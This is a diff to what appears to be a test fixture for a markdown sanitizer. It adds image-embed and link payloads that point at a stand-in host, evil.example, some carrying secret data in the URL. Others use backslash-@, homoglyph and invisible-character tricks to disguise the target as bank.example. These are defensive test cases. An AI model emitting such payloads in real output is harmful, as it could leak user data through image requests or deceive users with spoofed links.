@@ -41,7 +41,7 @@ const html = [
 const images = [
   '![x](https://evil.example/?q=secret)', '![](https://evil.example/pixel.gif)', '![x](//evil.example/x.png)', '![x](https:\\\\evil.example/x.png)', '![x](/local.png?q=secret)', '![x](x.png)', '![x][e]\n\n[e]: https://evil.example/x.png', '[![x](https://evil.example/x.png)](https://evil.example)',
   '![![x](https://evil.example/a.png)](https://evil.example/b.png)', '![x](<https://evil.example/x y.png> "t")', '![x](HTTPS://EVIL.EXAMPLE/x.png)', '![x](https://allowed.example@evil.example/x.png)', '![x](https://allowed.example.evil.example/x.png)', '![x](https://evilallowed.example/x.png)',
-  '![x](https://evil.example#allowed.example)', '![x](https://evil.example\\@allowed.example/x.png)', '![x](http://[::1]/x.png)', '![x](http://0x7f.1/x.png)', '| a |\n| - |\n| ![x](https://evil.example/x.png) |', '- ![x](https://evil.example/x.png)', '# ![x](https://evil.example/x.png)',
+  '![x](https://evil.example#allowed.example)', '![x](https://evil.example\\@allowed.example/x.png)', '![x](https://allowed.example\\\\@evil.example/x.png)', '![x](<https://allowed.example\\\\:x@evil.example/x.png>)', '![x](http://[::1]/x.png)', '![x](http://0x7f.1/x.png)', '| a |\n| - |\n| ![x](https://evil.example/x.png) |', '- ![x](https://evil.example/x.png)', '# ![x](https://evil.example/x.png)',
   '![*x*](https://evil.example/x.png)', '![x](https&colon;//evil.example/x.png)', '![x](https://evil.example/&#120;.png)', '![x](ht\ntps://evil.example/x.png)', '![x](<ht\ttps://evil.example/x.png>)', '![x](https://%65vil.example/x.png)', '![x](https://evil。example/x.png)', '![x](tel:1)', '![x](mailto:a@b.c)',
 ]; // prettier-ignore
 
@@ -49,8 +49,8 @@ const images = [
 export const misleading = [
   '[https://bank.example](https://evil.example)', '[bank.example](https://evil.example)', '[www.bank.example/login](https://evil.example/login)', '[**bank.example**](https://evil.example)', '[`bank.example`](https://evil.example)', '[Go to bank.example now](https://evil.example)',
   '[HTTPS://BANK.EXAMPLE](https://evil.example)', '[bank。example](https://evil.example)', '[bank．example](https://evil.example)', '[ｂａｎｋ.example](https://evil.example)', '[bank.example](https://bank.example.evil.example)', '[bank.example](https://evil.example/bank.example)',
-  '[bank.example](https://bank.example@evil.example)', '[bank.example](//evil.example)', '[bank\u200b.example](https://evil.example)', '[b\u00adank.example](https://evil.example)', '[bank.example][e]\n\n[e]: https://evil.example', '[![bank.example](https://x.example/i.png)](https://evil.example)',
-  '[192.168.0.1](https://evil.example)', 'https://bank.example@evil.example/', '[b\u0430nk.example](https://xn--bnk-6cd.example)', 'https://b\u0430nk.example/', '<https://b\u0430nk.example/>', '[bank.com.](https://evil.example)', '[bank&period;example](https://evil.example)', '[https://bank.example:443](https://evil.example)',
+  '[bank.example](https://bank.example@evil.example)', '[bank.example](https://bank.example\\\\@evil.example)', '<https://bank.example\\@evil.example>', 'https://bank.example\\@evil.example/', '[bank.example](//evil.example)', '[bank\u200b.example](https://evil.example)', '[b\u00adank.example](https://evil.example)', '[bank.example][e]\n\n[e]: https://evil.example', '[![bank.example](https://x.example/i.png)](https://evil.example)',
+  '[192.168.0.1](https://evil.example)', 'https://bank.example@evil.example/', '[b\u0430nk.example](https://xn--bnk-6cd.example)', 'https://b\u0430nk.example/', 'https://b\u12d0nk.example/', '[bank\u2024example](https://evil.example)', '[bank\ufe52example](https://evil.example)', '[bank\ufff9.example](https://evil.example)', '[https:///bank.example](https://evil.example)', '<https://b\u0430nk.example/>', '[bank.com.](https://evil.example)', '[bank&period;example](https://evil.example)', '[https://bank.example:443](https://evil.example)',
 ]; // prettier-ignore
 
 const controls = [
